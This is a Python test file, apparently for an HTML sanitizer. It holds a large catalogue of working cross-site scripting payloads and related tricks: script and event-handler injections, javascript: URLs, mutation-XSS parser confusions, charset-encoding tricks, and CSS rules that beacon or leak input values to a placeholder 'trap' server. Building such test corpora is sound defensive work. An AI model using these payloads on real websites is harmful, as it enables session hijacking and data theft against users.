"""Pages that try to run something, to call somebody, or to leave the place that they are shown in.

`{trap}` in a page is the address of a server that nobody may ever reach; its script words set the title to `ran`.
"""

from collections.abc import Iterator

RUN = "document.title='ran';fetch('{trap}/ran');alert(1)"

SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script of a server": "<script src='{trap}/a.js'></script>",
    "module": "<script type=module src={trap}/m.js></script>",
    "split script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script never closed": f"<script>{RUN}",
    "script in capitals with a slash": f"<SCRIPT/x>{RUN}</SCRIPT/x>",
    "script behind a broken tag": f"<<script>{RUN}//<</script>",
    "script in a comment that ends early": f"<!--><script>{RUN}</script>-->",
    "script behind a bang": f"<!--a--!><script>{RUN}</script>",
    "script in CDATA": f"<![CDATA[><script>{RUN}</script>]]>",
    "script in an instruction": f"<?xml version='1.0'?><?a ?><script>{RUN}</script>",
    "script in a title": f"<title><script>{RUN}</script></title></title><script>{RUN}</script>",
    "script in a text field": f"<textarea><script>{RUN}</script></textarea><img src=x onerror={RUN}>",
    "script as a string in a script": '<script>var a = {{"content": "<div>'
    + "字" * 300
    + f"""<img src=x onerror={RUN}>"}}</script>""",
}
HANDLERS = {
    "onerror": f'<img src=x onerror="{RUN}">',
    "onerror without quotes": "<img src=x onerror=alert(1)//",
    "onerror behind a slash": f'<img/src=x/onerror="{RUN}"/>',
    "onload of the body": f'<body onload="{RUN}"><p>正文</p></body>',
    "handlers of a second body": f'<p>a</p><body onpageshow="{RUN}" onfocus="{RUN}">',
    "onclick": f'<p onclick="{RUN}" onmouseover="{RUN}">正文</p>',
    "onfocus with autofocus": f'<input autofocus onfocus="{RUN}"><p tabindex=0 autofocus onfocus="{RUN}">a</p>',
    "ontoggle": f'<details open ontoggle="{RUN}"><summary>a</summary>b</details>',
    "onbegin": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "onstart": f'<marquee onstart="{RUN}">a</marquee>',
    "onanimationstart": "<style>@keyframes x{from{color:red}}</style>"
    f'<p style="animation:x 1s" onanimationstart="{RUN}">a</p>',
    "handler with a line break in its name": f'<img src=x on\nerror="{RUN}">',
    "handler behind a quote in a name": f'<p a"b="><img src=x onerror={RUN}>">c</p>',
    "backticks": f"<img src=`x` onerror=`{RUN}`>",
    "onscroll of a link that is scrolled to": f'<a id=lit onfocus="{RUN}" href=#lit>a</a>',
}
ADDRESSES = {
    "javascript": f'<a href="javascript:{RUN}">a</a>',
    "javascript with a tab": f'<a href="java\tscript:{RUN}">a</a>',
    "javascript as references": f'<a href="&#106;&#x61;vascript&colon;{RUN}">a</a>',
    "javascript behind a control sign": f'<a href="\x01javascript:{RUN}">a</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">a</a>',
    "data": f'<a href="data:text/html,<script>{RUN}</script>">a</a>',
    "target and ping": '<a href="{trap}/l" target=_top ping="{trap}/ping">a</a>',
    "base": '<base href="{trap}/" target=_top><a href=x>a</a><img src=y>',
    "map": '<img usemap=#m src={trap}/i.png><map name=m><area shape=default href="{trap}/area"></map>',
    "xlink": f'<svg><a xlink:href="javascript:{RUN}"><text>a</text></a></svg>',
    "formula link": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">a</maction></math>',
    "formula as a link": f'<math href="javascript:{RUN}"><mi>a</mi></math>',
}
LOADS = {
    "picture": '<img src="{trap}/a.png">',
    "sources of a picture": '<picture><source srcset="{trap}/s.png"><img srcset="{trap}/a.png 2x" sizes=1px></picture>',
    "picture, lazy": '<img loading=eager src="{trap}/lazy.png" lowsrc="{trap}/l.png" dynsrc="{trap}/d.png">',
    "image": '<image src="{trap}/image.png">',
    "picture of a field": '<input type=image src="{trap}/field.png">',
    "background": '<table background="{trap}/t.png"><tr><td background="{trap}/b.png">a</table>',
    "background of the body": '<body background="{trap}/b.png">',
    "sound": '<audio src="{trap}/a.mp3" autoplay></audio><video poster="{trap}/p.png" src="{trap}/v.mp4"></video>',
    "track": '<video controls><source src="{trap}/v"><track src="{trap}/t.vtt" default></video>',
    "frame": '<iframe src="{trap}/frame"></iframe>',
    "frame of a text": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frames": '<frameset><frame src="{trap}/f"><noframes><p>a</p></noframes></frameset>',
    "object": '<object data="{trap}/o.swf"><embed src="{trap}/e.swf"></object><applet code="{trap}/x"></applet>',
    "style sheet": '<link rel=stylesheet href="{trap}/s.css"><link rel=prefetch href="{trap}/p">',
    "preconnect": '<link rel=dns-prefetch href="{trap}"><link rel=preload as=image href="{trap}/i.png">',
    "icon": '<link rel=icon href="{trap}/i.ico"><link rel=manifest href="{trap}/m.json">',
    "refresh": '<meta http-equiv=refresh content="0;url={trap}/refresh">',
    "refresh to a script": f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    "refresh in the body": '<p>a</p><meta http-equiv="Refresh" content="0; URL={trap}/late">',
    "cookie and policy": '<meta http-equiv=set-cookie content=a=b><meta http-equiv=content-security-policy content="">',
    "svg picture": '<svg><image href="{trap}/i.svg" /><use href="{trap}/u.svg#a" /></svg>',
    "svg in a style": '<svg><style>@import "{trap}/svg.css";</style></svg>',
}
STYLES = {
    "import": '<style>@import "{trap}/i.css"; @import url({trap}/j.css);</style>',
    "address in a style": '<p style="background:url({trap}/b.png)">a</p>',
    "address with escapes": '<p style="background:\\75\\72\\6c({trap}/e.png)">a</p>',
    "image set": "<p style=\"background-image:image-set('{trap}/s.png' 1x)\">a</p>",
    "list sign": '<ul style="list-style:url({trap}/l.png)"><li>a</ul>',
    "cursor, content": "<style>p::after{{content:url({trap}/c.png)}} p{{cursor:url({trap}/k.cur),auto}}</style>",
    "font": "<style>@font-face{{font-family:f;src:url({trap}/f.woff)}} p{{font-family:f}}</style><p>a</p>",
    "letters told by styles": '<style>input[value^="a"]{{background:url({trap}/a)}}</style><input value=abc>',
    "expression": '<p style="width:expression(alert(1));-moz-binding:url({trap}/x.xml#a)">a</p>'
    '<p style="behavior:url({trap}/h.htc)">a</p>',
    "over all": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;opacity:0">a</div>',
    "style of a style": "<style></style><style>*{{background:url({trap}/all)}}",
    "style in a comment of a style": "<p style='/*' title='*/background:url({trap}/z)'>a</p>",
    "our own classes": '<p class="g-note lit" id=lit>a</p><mark id=lit>b</mark>',
}
FORMS = {
    "form": '<form action="{trap}/f" method=post><input name=a value=1><button>go</button></form>',
    "form of its own accord": '<form action="{trap}/auto" id=f></form><script>f.submit()</script>',
    "formaction": '<form><button formaction="{trap}/b">a</button><input type=submit formaction="{trap}/c"></form>',
    "formaction of a script": f'<form><input type=image src=x formaction="javascript:{RUN}"></form>',
    "field of a form elsewhere": '<input form=f formaction="{trap}/x" value="<img src=x onerror=alert(1)>">',
    "isindex": '<isindex action="{trap}/i" type=image>',
    "dialog": f'<dialog open><form method=dialog><button onclick="{RUN}">a</button></form></dialog>',
    "popover": f'<button popovertarget=x>a</button><div popover id=x onbeforetoggle="{RUN}">b</div>',
    "our own classes, without a style": '<td class="g-evil g-note">a<p class="g-evil g-bold">b</p>',
    "values of what is allowed": '<table width="url({trap}/w)" border="1;x:y" align="javascript:a"><tr>'
    '<td colspan="99999999" rowspan="-1" class="g-evil lit" valign="(a)">a</table>',
    "names that hide others": "<form name=getElementById><input name=parentNode><img name=body></form>",
}
MUTATIONS = {
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "formula with a style": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "formula with a text": "<math><annotation-xml encoding='text/html'>"
    f"<style><img src=x onerror={RUN}></style></math>",
    "svg with a style": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "foreign object": f"<svg><foreignObject><body onload={RUN}><iframe srcdoc='x'></foreignObject></svg>",
    "form in a form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "template": f"<template><img src=x onerror={RUN}></template>"
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    "plain text": f"<plaintext><script>{RUN}</script><img src=x onerror={RUN}>",
    "xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    "noembed": f'<noembed><p title="</noembed><img src=x onerror={RUN}>"></noembed>',
    "select": f"<select><option><style></option></select><img src=x onerror={RUN}></style>",
    "table that lets out": f"<table><a href=javascript:alert(1)><tr><td><img src=x onerror={RUN}></a></table>",
    "references twice": f"<p>&lt;img src=x onerror={RUN}&gt; &amp;lt;script&amp;gt;</p>",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->"
    f"<![if true]><script>{RUN}</script><![endif]>",
    "deep": "<div>" * 3000 + f"<img src=x onerror={RUN}>" + "<b><p>" * 500,
    "custom element": f'<x-a onclick="{RUN}" is=x style="background:url({{trap}}/c)">a</x-a>',
    "another name space": f'<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>{RUN}</x:script></html>',
    "attribute that is cut": f'<img src="x` `<script>{RUN}</script>"` `>',
}


def iter_pages(trap: str) -> Iterator[tuple[str, bytes]]:
    """Yield every page by a name, in the bytes that a server would send."""
    for group in (SCRIPTS, HANDLERS, ADDRESSES, LOADS, STYLES, FORMS, MUTATIONS):
        for name, page in group.items():
            text = page.replace("{trap}", trap).replace("{{", "{").replace("}}", "}")
            yield name, f"<!doctype html><meta charset=utf-8><title>年报</title>{text}<p>末行</p>".encode()
    yield from _iter_encoded(RUN.replace("{trap}", trap))


def _iter_encoded(run: str) -> Iterator[tuple[str, bytes]]:
    """Yield pages whose danger lies in how their bytes are read."""
    script = f"<script>{run}</script><img src=x onerror={run}>"
    page = f"<html><body><p>政府信息公开年度报告</p>{script}</body></html>"
    yield "utf-7", b"<meta charset=utf-7><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>"
    yield "utf-7 with a mark", b"+/v8-<p>+ADw-img src=x onerror=alert(1)+AD4-</p>"
    yield "utf-16 with a mark", b"\xff\xfe" + page.encode("utf-16-le")
    yield "utf-16 without a mark", page.encode("utf-16-be")
    yield "utf-16 said, utf-8 sent", b"<meta charset=utf-16>" + page.encode()
    yield (
        "gbk that ends in a backslash",
        b"<meta charset=gbk><p title='\x81\x5c'" + f" onclick='{run}'>a{script}".encode("gbk"),
    )
    yield (
        "gbk that eats a quote",
        b'<meta charset=gbk><p title="\x81" onclick="alert(1)" x="\x81">a</p>' + page.encode("gbk"),
    )
    yield "iso-2022-jp", b"<meta charset=iso-2022-jp><p title='\x1b$B' x='>" + page.encode() + b"\x1b(B'>"
    yield "hz", b"<meta charset=hz-gb-2312><p>~{<script>~}" + script.encode()
    late = b"<p>" + b"a" * 5000
    yield (
        "nul in a tag",
        late + b"<p>a</p><scr\x00ipt>" + run.encode() + b"</scr\x00ipt><img src=x on\x00error=alert(1)>",
    )
    yield "nul in an address", late + b'<a href="java\x00script:alert(1)">a</a><p>' + "年报".encode()
    yield "bytes that are no signs", b"<p>\xff\xfe\xc0<img src=x onerror=alert(1)\xc0></p>" + page.encode()
    yield "marks in an attribute", f"<p><a title='\U000f0001<b>\U0010fffd'>a</a>{script}</p>".encode()
    yield "marks of our own", f"<p>\U000f0000<b>\U0010fffd</b>{script}</p>".encode()
    yield "half a sign", b'<p title="&#xd800;">&#xd800;&#0;</p>' + page.encode()
